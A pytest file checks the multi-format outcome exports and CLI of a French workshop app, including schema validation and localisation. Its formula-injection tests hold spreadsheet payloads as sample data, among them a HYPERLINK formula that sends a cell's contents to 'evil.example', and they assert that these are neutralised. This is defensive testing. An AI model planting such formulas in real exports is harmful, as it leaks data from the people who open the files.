"""Outcome downloads opened with real readers, as the people who receive them would.

XLSX with openpyxl, DOCX with python-docx, CSV with the csv module, JSON
validated against docs/outcome.schema.json, ICS parsed by icalendar, PDF by
pypdf; and the same files from `flask export`. Each test looks for the
workshop's own words, accents included, in the language asked for.
"""
import codecs
import copy
import csv
import io
import json
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest
from icalendar import Calendar
from jsonschema import Draft202012Validator

from aeh_workshop.extensions import db
from aeh_workshop.models import Card, Workshop
from aeh_workshop.outcomes import exports, service as outcomes
from aeh_workshop.workshops import service as workshops
from outcome_data import ACTION_TITLE, DUE, OFFER_TITLE, rich_workshop

SCHEMA = json.loads((Path(__file__).resolve().parent.parent / "docs" / "outcome.schema.json").read_text("utf-8"))
VALIDATOR = Draft202012Validator(SCHEMA, format_checker=Draft202012Validator.FORMAT_CHECKER)
TITLE = "Entreprises et associations de l'Ain : nos coopérations"
SAFE_TITLE = "Entreprises et associations de l'Ain - nos coopérations"
SHEETS = ["Synthèse", "Participant·es", "Cartes", "Votes", "Priorités", "Offres communes",
          "Apports des structures", "Demandes aux entreprises", "Plan d'action"]
# What each download must say, read back with its reader.
EXPECTED = {
    "pdf": [OFFER_TITLE, "Hélène Besson", ACTION_TITLE],
    "xlsx": [OFFER_TITLE, "Hélène Besson", "Mécénat", "Élodie Marchand"],
    "docx": [OFFER_TITLE, "Hélène Besson", "Mécénat", "Élodie Marchand"],
    "csv": ["Hélène Besson", "Mécénat", "Étudier ensemble une recyclerie", ACTION_TITLE],
    "cards.csv": ["Hélène Besson", "Mécénat de compétences", "Coopération économique"],
    "votes.csv": ["Étudier ensemble une recyclerie", "ex æquo"],
    "actions.csv": [ACTION_TITLE, "Hélène Besson", OFFER_TITLE],
    "md": [OFFER_TITLE, "Hélène Besson", "Mécénat", "Élodie Marchand"],
    "json": [OFFER_TITLE, "Hélène Besson", "Élodie Marchand"],
    "ics": [ACTION_TITLE, "Hélène Besson", OFFER_TITLE],
}
WITHOUT_PDF = [fmt for fmt in exports.FORMATS if fmt != "pdf"]


# ------------------------------------------------------------------ readers

def workbook(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def rows_of(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def document(data: bytes):
    return docx.Document(io.BytesIO(data))


def docx_text(doc) -> str:
    cells = [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


def csv_rows(data: bytes) -> list[list[str]]:
    """A CSV file as Excel reads it: UTF-8 announced by its byte-order mark."""
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def events(data: bytes) -> list:
    return Calendar.from_ical(data).walk("VEVENT")


def valid_json(data: bytes) -> dict:
    doc = json.loads(data.decode("utf-8"))
    errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in VALIDATOR.iter_errors(doc)]
    assert not errors, errors
    return doc


def text_of(fmt: str, data: bytes) -> str:
    """Every word of a download, read with the reader of its format."""
    if fmt == "xlsx":
        return "\n".join(str(v) for ws in workbook(data) for row in rows_of(ws) for v in row if v is not None)
    if fmt == "docx":
        return docx_text(document(data))
    if fmt == "csv":
        return "\n".join(",".join(r) for body in members(data).values() for r in csv_rows(body))
    if fmt.endswith(".csv"):
        return "\n".join(",".join(r) for r in csv_rows(data))
    if fmt == "json":
        return json.dumps(valid_json(data), ensure_ascii=False)
    if fmt == "ics":
        return "\n".join(f"{e['SUMMARY']}\n{e['DESCRIPTION']}" for e in events(data))
    if fmt == "pdf":
        pages = pypdf.PdfReader(io.BytesIO(data)).pages
        return " ".join(" ".join(page.extract_text().split()) for page in pages)   # lines wrap in table cells
    return data.decode("utf-8")


# ----------------------------------------------------------------- fixtures

@pytest.fixture
def rich(app):
    """The join code of a workshop with something in every section (tests/outcome_data.py)."""
    with app.app_context():
        return rich_workshop().join_code


@pytest.fixture
def snapshot_of(app):
    """A workshop's outcome as the downloads give it; `closed` closes the workshop first (version 1)."""
    def get(code, closed=False):
        with app.app_context():
            workshop = workshops.by_code(code)
            if closed:
                workshops.set_status(workshop, "closed")
            return outcomes.current(workshop)
    return get


@pytest.fixture
def render(app):
    def do(snapshot, fmt, lang="fr", share_url=None):
        with app.app_context():
            return exports.render(snapshot, fmt, lang, share_url)
    return do


def add_cards(app, code, *texts):
    with app.app_context():
        workshop = workshops.by_code(code)
        db.session.add_all([Card(workshop_id=workshop.id, kind="idea", text=text) for text in texts])
        db.session.commit()


# ------------------------------------------------------------ every format

@pytest.mark.parametrize("fmt", WITHOUT_PDF)
def test_every_format_says_what_the_workshop_said_with_its_accents(rich, snapshot_of, render, fmt):
    export = render(snapshot_of(rich, closed=True), fmt)
    text = text_of(fmt, export.data)
    for words in EXPECTED[fmt]:
        assert words in text
    ext, mimetype = exports.FORMATS[fmt]
    assert export.mimetype == mimetype and export.filename.endswith(f".{ext}")
    assert export.filename.startswith(f"{SAFE_TITLE} {date.today().isoformat()} v1")


def test_an_unknown_format_is_refused(rich, snapshot_of, render):
    with pytest.raises(ValueError, match="xlsx"):
        render(snapshot_of(rich), "odt")


def test_file_names_carry_title_date_and_version(rich, snapshot_of, render):
    live = snapshot_of(rich)
    assert render(live, "xlsx").filename == f"{SAFE_TITLE} {live['frozen_at'][:10]} provisoire.xlsx"
    closed = snapshot_of(rich, closed=True)
    day = closed["workshop"]["closed_at"][:10]
    assert render(closed, "docx").filename == f"{SAFE_TITLE} {day} v1.docx"
    assert render(closed, "cards.csv").filename == f"{SAFE_TITLE} {day} v1 cartes.csv"
    assert render(closed, "csv").filename == f"{SAFE_TITLE} {day} v1.zip"
    odd = copy.deepcopy(closed)
    odd["workshop"]["title"] = ' Bilan 2026/2027 : « Cœur » ?*\n'
    assert render(odd, "md").filename == f"Bilan 2026-2027 - « Cœur » {day} v1.md"


# --------------------------------------------------------------------- XLSX

def test_xlsx_has_a_sheet_per_section_with_frozen_filtered_headers(rich, snapshot_of, render):
    wb = workbook(render(snapshot_of(rich, closed=True), "xlsx").data)
    assert wb.sheetnames == SHEETS
    for ws in wb:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert ws["A1"].font.b


def test_xlsx_dates_are_dates_and_numbers_are_numbers(rich, snapshot_of, render):
    wb = workbook(render(snapshot_of(rich, closed=True), "xlsx").data)
    plan = {row[0]: row for row in rows_of(wb["Plan d'action"])}
    assert rows_of(wb["Plan d'action"])[0][3] == "Échéance"
    presented = plan[ACTION_TITLE]
    assert isinstance(presented[3], datetime) and presented[3].date() == DUE
    assert presented[1:3] == ["Nadia Haddad", "Tremplin Emploi Ain"] and presented[6] == OFFER_TITLE
    assert plan["Évaluer la première année du partenariat"][3] is None
    assert plan["Évaluer la première année du partenariat"][8] == "proposition"
    header, first, second, *_rest = rows_of(wb["Votes"])
    assert header[1:8] == ["Rang", "N° de carte", "Carte", "Type", "Gommettes", "Votant·es", "Ex æquo"]
    assert header[8:] == ["Entreprises", "Associations", "Autres"]
    assert first[1] == second[1] == 1 and first[5] == second[5] == 8 and first[7] == "ex æquo"
    assert all(isinstance(v, int) for v in first[5:7] + first[8:])
    cards = rows_of(wb["Cartes"])
    assert all(isinstance(row[0], int) and isinstance(row[11], datetime) for row in cards[1:])
    assert "Mécénat" in [row[6] for row in cards]


def test_xlsx_holds_offers_people_and_summary(rich, snapshot_of, render):
    wb = workbook(render(snapshot_of(rich, closed=True), "xlsx").data)
    summary = dict(row for row in rows_of(wb["Synthèse"])[1:])
    assert summary["Atelier"] == TITLE and summary["Version"] == 1 and summary["Cartes"] == 8
    assert summary["Participant·es (Entreprise)"] == 3
    assert ["Hélène Besson", "Imprimerie Bourg Graphic", "Entreprise"] in rows_of(wb["Participant·es"])
    assert rows_of(wb["Offres communes"])[1][:3] == [OFFER_TITLE, rows_of(wb["Offres communes"])[1][1],
                                                      "Dombes et Bresse (Ain)"]
    assert [OFFER_TITLE, "Les Jardins de Cocagne de la Dombes", "Chantiers de maraîchage biologique, paniers livrés"] \
        in rows_of(wb["Apports des structures"])
    asks = rows_of(wb["Demandes aux entreprises"])[1:]
    assert [row[1] for row in asks] == ["Mécénat", "Coopération économique"]   # Le Rameau's order


# --------------------------------------------------------------------- DOCX

def test_docx_is_a_report_with_headings_and_tables(rich, snapshot_of, render):
    doc = document(render(snapshot_of(rich, closed=True), "docx", share_url="https://atelier.example/o/s3cret").data)
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith(("Heading", "Title"))]
    assert headings[0] == TITLE
    assert {"Participant·es", "Cartes", "Votes", "Priorités", "Offres communes", OFFER_TITLE, "Plan d'action"} <= \
        set(headings)
    lines = [p.text for p in doc.paragraphs]
    assert "Version : 1" in lines and "Lien de partage : https://atelier.example/o/s3cret" in lines
    plan = next(t for t in doc.tables if t.rows[0].cells[0].text == "Action")
    presented = next([c.text for c in row.cells] for row in plan.rows if row.cells[0].text == ACTION_TITLE)
    assert presented[1] == "Nadia Haddad" and presented[3] == "15 janv. 2027" and presented[6] == OFFER_TITLE
    contributions = next(t for t in doc.tables if t.rows[0].cells[1].text == "Apport")
    assert contributions.rows[1].cells[0].text == "Tremplin Emploi Ain"
    assert "Hélène Besson" in docx_text(doc)


# ---------------------------------------------------------------------- CSV

def test_csv_zip_holds_cards_votes_and_actions(rich, snapshot_of, render):
    files = members(render(snapshot_of(rich, closed=True), "csv").data)
    assert sorted(files) == ["actions.csv", "cartes.csv", "votes.csv"]
    cards, votes, actions = (csv_rows(files[name]) for name in ("cartes.csv", "votes.csv", "actions.csv"))
    assert cards[0][:3] == ["N°", "Type", "Texte"] and len(cards) == 9
    assert ["Mécénat", "compétences"] == cards[4][6:8]
    assert votes[1][:3] == ["Quels partenariats développer en priorité ?", "1", "5"]
    presented = next(row for row in actions if row[0] == ACTION_TITLE)
    assert presented[1:4] == ["Nadia Haddad", "Tremplin Emploi Ain", DUE.isoformat()]


@pytest.mark.parametrize("fmt, first_column", [("cards.csv", "N°"), ("votes.csv", "Vote"), ("actions.csv", "Action")])
def test_each_csv_alone(rich, snapshot_of, render, fmt, first_column):
    export = render(snapshot_of(rich), fmt)
    rows = csv_rows(export.data)
    assert rows[0][0] == first_column and len(rows) > 1
    assert export.data.decode("utf-8-sig") == members(render(snapshot_of(rich), "csv").data)[
        export.filename.rsplit(" ", 1)[1]].decode("utf-8-sig")


# ---------------------------------------------------------- formula injection

FORMULAS = ['=HYPERLINK("http://x")', "+33 6 12 34 56 78", "@SUM(A1)", "-1+2", "\t=1+1", "\r=1+1"]


def test_formulas_are_neutralised_in_csv_and_xlsx(app, rich, snapshot_of, render):
    add_cards(app, rich, *FORMULAS, "42")
    snap = snapshot_of(rich)
    sheet = rows_of(workbook(render(snap, "xlsx").data)["Cartes"])
    from_csv = csv_rows(render(snap, "cards.csv").data)
    for rows, number in ((sheet, lambda v: isinstance(v, int)), (from_csv, str.isdigit)):
        texts = [row[2] for row in rows]
        assert ["'" + text for text in FORMULAS] == texts[-7:-1]
        assert texts[-1] == "42"                       # a text that is not a formula is left as written
        assert all(number(row[0]) for row in rows[1:])  # card numbers stay numbers
    assert not any(cell.data_type == "f" for ws in workbook(render(snap, "xlsx").data) for row in ws.iter_rows()
                   for cell in row)


def test_a_control_character_neither_unmasks_a_formula_nor_breaks_the_files(app, rich, snapshot_of, render):
    """XLSX cannot hold \x01: it is removed, and what it hid is then neutralised too."""
    add_cards(app, rich, '\x01=HYPERLINK("http://evil.example/?"&A1, "Cliquez")')
    with app.app_context():
        db.session.scalar(db.select(Workshop).filter_by(join_code=rich)).title = "Atelier \x01 « Cœur »"
        db.session.commit()
    snap = snapshot_of(rich)
    book = workbook(render(snap, "xlsx").data)
    assert rows_of(book["Cartes"])[-1][2] == '\'=HYPERLINK("http://evil.example/?"&A1, "Cliquez")'
    assert not any(cell.data_type == "f" for ws in book for row in ws.iter_rows() for cell in row)
    assert book.properties.title == "Atelier  « Cœur »"
    assert "Cœur" in docx.Document(io.BytesIO(render(snap, "docx").data)).core_properties.title


# ----------------------------------------------------------------- Markdown

def test_markdown_has_headings_tables_and_escapes(app, rich, snapshot_of, render):
    add_cards(app, rich, "Prix | coût *réduit*")
    text = render(snapshot_of(rich, closed=True), "md").data.decode("utf-8")
    lines = text.splitlines()
    assert lines[0] == f"# {TITLE}"
    assert {"## Cartes", "## Votes", "## Offres communes", f"### {OFFER_TITLE}", "## Plan d'action"} <= set(lines)
    assert "- **Version :** 1" in lines
    assert any(line.startswith(f"| {ACTION_TITLE} | Nadia Haddad | Tremplin Emploi Ain | 15 janv. 2027 |")
               for line in lines)
    assert r"| Prix \| coût \*réduit\* |" in text


# --------------------------------------------------------------------- JSON

@pytest.mark.parametrize("closed", [False, True])
def test_json_is_the_snapshot_and_follows_the_schema(rich, snapshot_of, render, closed):
    snap = snapshot_of(rich, closed=closed)
    doc = valid_json(render(snap, "json").data)
    assert doc == snap and doc["schema_version"] == 1
    assert (doc["version"], doc["provisional"]) == ((1, False) if closed else (None, True))
    assert doc["offers"][0]["title"] == OFFER_TITLE


def test_the_schema_rejects_what_a_snapshot_never_holds(rich, snapshot_of):
    Draft202012Validator.check_schema(SCHEMA)
    snap = snapshot_of(rich, closed=True)
    for path, value in ((("cards", 0, "kind"), "rumour"), (("actions", 0, "due"), "15/01/2027"),
                        (("schema_version",), 2), (("version",), None), (("offers", 0, "asks"), {"charity": "x"})):
        broken = copy.deepcopy(snap)
        target = broken
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        assert not VALIDATOR.is_valid(broken), path
    del snap["summary"]
    assert not VALIDATOR.is_valid(snap)


# ---------------------------------------------------------------------- ICS

def test_ics_has_one_event_per_dated_action(rich, snapshot_of, render):
    snap = snapshot_of(rich, closed=True)
    data = render(snap, "ics").data
    assert all(len(line) <= 75 for line in data.split(b"\r\n")) and data.endswith(b"END:VCALENDAR\r\n")
    found = {str(e["SUMMARY"]): e for e in events(data)}
    assert sorted(found) == sorted([ACTION_TITLE, "Organiser une visite des Jardins de Cocagne pour les DRH"])
    presented = found[ACTION_TITLE]
    assert presented.decoded("DTSTART") == DUE and presented.decoded("DTEND") == DUE + timedelta(days=1)
    first = snap["actions"][0]
    assert str(presented["UID"]) == f"action-{first['id']}-{snap['workshop']['code']}@aeh-atelier"
    assert "Responsable : Nadia Haddad" in str(presented["DESCRIPTION"]).splitlines()
    assert str(presented["STATUS"]) == "CONFIRMED" and presented.decoded("DTSTAMP")


def test_ics_folds_and_escapes_long_titles(rich, snapshot_of, render):
    snap = snapshot_of(rich, closed=True)
    title = "Rencontre « Cœur de Dombes » ; entreprises, associations \\ élu·es\n" * 4
    snap["actions"][0]["title"] = title
    data = render(snap, "ics").data
    assert b"\r\n " in data and all(len(line) <= 75 for line in data.split(b"\r\n"))
    data.decode("utf-8")   # no character cut in two at a fold
    assert title in [str(e["SUMMARY"]) for e in events(data)]


# ------------------------------------------------------ languages, emptiness

def test_english_export_uses_english_labels(rich, snapshot_of, render):
    snap = snapshot_of(rich, closed=True)
    english = workbook(render(snap, "xlsx", lang="en").data).worksheets
    cards, plan = rows_of(english[2]), rows_of(english[8])
    assert "Sponsorship" in [row[6] for row in cards] and "Mécénat" not in [row[6] for row in cards]
    assert "Company" in [row[2] for row in rows_of(english[1])]
    assert "To do" in [row[4] for row in plan]
    assert "Sponsorship" in text_of("md", render(snap, "md", lang="en").data)


def test_an_empty_workshop_exports_in_every_format(make_workshop, snapshot_of, render):
    snap = snapshot_of(make_workshop())
    for fmt in WITHOUT_PDF:
        assert text_of(fmt, render(snap, fmt).data) is not None
    wb = workbook(render(snap, "xlsx").data)
    assert rows_of(wb["Cartes"]) == [rows_of(wb["Cartes"])[0]] and wb["Cartes"].auto_filter.ref == "A1:L1"
    assert {"Aucune carte.", "Aucun vote.", "Aucune action."} <= set(docx_text(document(render(snap, "docx").data))
                                                                      .splitlines())
    assert "Aucune offre commune." in render(snap, "md").data.decode()
    assert events(render(snap, "ics").data) == []
    assert valid_json(render(snap, "json").data)["cards"] == []


# ---------------------------------------------------------------------- CLI

@pytest.mark.parametrize("fmt", list(exports.FORMATS))
def test_cli_exports_every_format(app, rich, tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    result = app.test_cli_runner().invoke(args=["export", rich, "--format", fmt, "-o", str(path)])
    assert result.exit_code == 0, result.output
    assert "provisoire / provisional" in result.output and str(path) in result.output
    text = text_of(fmt, path.read_bytes())
    for words in EXPECTED[fmt]:
        assert words in text


def test_cli_exports_a_frozen_version_to_stdout_in_english(app, rich, snapshot_of):
    snapshot_of(rich, closed=True)
    runner = app.test_cli_runner()
    result = runner.invoke(args=["export", rich.lower(), "--format", "json", "-o", "-", "--version", "1"])
    assert result.exit_code == 0, result.output
    assert valid_json(result.stdout_bytes)["version"] == 1 and "version 1" in result.stderr
    english = runner.invoke(args=["export", rich, "--format", "md", "-o", "-", "--lang", "en"])
    assert "Sponsorship" in english.stdout


@pytest.mark.parametrize("args, message", [
    (["ZZZZZZZ", "--format", "xlsx"], "Aucun atelier avec le code"),
    (["{code}", "--format", "odt"], "xlsx, docx, csv, cards.csv"),
    (["{code}", "--format", "xlsx", "--version", "7"], "Pas de version 7"),
])
def test_cli_explains_what_it_cannot_do(app, rich, tmp_path, args, message):
    path = tmp_path / "out"
    result = app.test_cli_runner().invoke(args=["export"] + [a.format(code=rich) for a in args] + ["-o", str(path)])
    assert result.exit_code != 0 and message in result.output
    assert not path.exists()


def test_the_schema_names_every_template_and_card_kind():
    """A template or card kind added to the app must be added to the published schema too."""
    from aeh_workshop import vocab
    workshop = SCHEMA["properties"]["workshop"]["properties"]
    assert set(workshop["template"]["enum"]) == set(vocab.TEMPLATE_SETUP)
    assert set(SCHEMA["$defs"]["card_kind"]["enum"]) == set(vocab.CARD_KINDS)
